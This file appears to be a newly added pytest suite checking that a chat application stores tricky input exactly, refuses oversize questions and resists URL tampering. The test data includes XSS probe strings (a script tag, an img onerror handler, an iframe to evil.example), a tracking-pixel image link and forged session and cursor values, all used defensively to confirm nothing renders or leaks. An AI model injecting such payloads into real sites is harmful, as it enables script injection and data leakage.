@@ -1,0 +1,78 @@
+"""Bad input: each gets a clear message or exact storage; nothing is lost; no exception.
+(Also covered elsewhere: empty/whitespace questions, tampered cursors, foreign and malformed session ids,
+a spoofed identity header without the proxy secret: see test_store, test_app.)"""
+import pytest
+
+from lib.itemsize import ITEM_LIMIT_BYTES
+from lib.store import ANSWER_RESERVE_BYTES
+from tests.pages import DEV, new_browser, send, services
+
+pytestmark = pytest.mark.usefixtures("app_env")
+
+TRICKY = {
+    "one character": "?",
+    "NUL and control characters": "a\x00b\x01c\x7f\td\re\x1b[31m",
+    "emoji, RTL and combining marks": "👋🏽 שלום עליכם مرحبا e\u0301 Z\u0351\u0352 🇺🇳 \u200d",
+    "backslashes and escapes": "C:\\temp\\new \\ud800 \\n",
+}
+
+
+def round_trip(question):
+    at = send(new_browser(), question)
+    store = services().store
+    session_id = store.list_sessions(DEV).items[0].session_id
+    return at, store.open_session(DEV, session_id).messages[0]
+
+
+class TestStoredExactly:
+    @pytest.mark.parametrize("name", TRICKY)
+    def test_tricky_text_round_trips_byte_for_byte(self, name):
+        at, stored = round_trip(TRICKY[name])
+        assert stored.input_body.encode("utf-8") == TRICKY[name].encode("utf-8")
+        assert stored.status == "done" and not at.exception
+
+    def test_a_question_just_under_the_limit_is_stored_whole(self):
+        text = "u" * (ITEM_LIMIT_BYTES - ANSWER_RESERVE_BYTES - 400)
+        _, stored = round_trip(text)
+        assert stored.input_body == text
+
+
+class TestRefusedClearly:
+    @pytest.mark.parametrize("size", [ITEM_LIMIT_BYTES - ANSWER_RESERVE_BYTES + 1, ITEM_LIMIT_BYTES + 1,
+                                      10 * 1024 * 1024])
+    def test_oversize_questions_are_refused_with_the_limit_before_any_request_and_kept(self, size):
+        at = new_browser()
+        meter = services().database.meter
+        before = len(meter.records())
+        text = "o" * size
+        send(at, text)
+        assert "limit is 396 KB" in at.error[0].value
+        assert at.text_area[0].value == text
+        assert meter.records()[before:] == [] and services().store.list_sessions(DEV).items == []
+
+
+class TestRenderedInert:
+    @pytest.mark.parametrize("payload", ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>",
+                                         "<iframe src='https://evil.example'></iframe>"])
+    def test_html_is_never_rendered_as_html(self, payload):
+        at, _ = round_trip(payload)
+        user_markdown = at.chat_message[0].markdown[0]
+        assert user_markdown.value == payload and user_markdown.proto.allow_html is False
+        assert all(not m.proto.allow_html for message in at.chat_message for m in message.markdown)
+
+    def test_a_markdown_image_becomes_a_link_so_nothing_is_fetched_on_display(self):
+        at, stored = round_trip("look ![x](https://tracker.example/pixel.png?leak=secret)")
+        assert stored.input_body.startswith("look ![x]")  # stored as typed
+        assert at.chat_message[0].markdown[0].value == "look [image: x](https://tracker.example/pixel.png?leak=secret)"
+
+
+class TestUrlTampering:
+    @pytest.mark.parametrize("query", [{"cursor": "eyJzayI6IlNFUyMifQ.AAAA"}, {"session": ""},
+                                       {"session": "01JC3Q8Z4F6M2V9K7T5R1N0B8D", "user": "someone@example.com"},
+                                       {"session": "%00"}, {"session": "x" * 5000}])
+    def test_odd_query_parameters_show_nothing_of_anyone_else_and_raise_nothing(self, query):
+        store = services().store
+        store.create_session("victim@example.com", "victim's chat", system_prompt_id="default-v1")
+        at = new_browser(**query)
+        assert not at.exception
+        assert "victim" not in str([m.value for m in at.markdown]) + str([b.label for b in at.button])
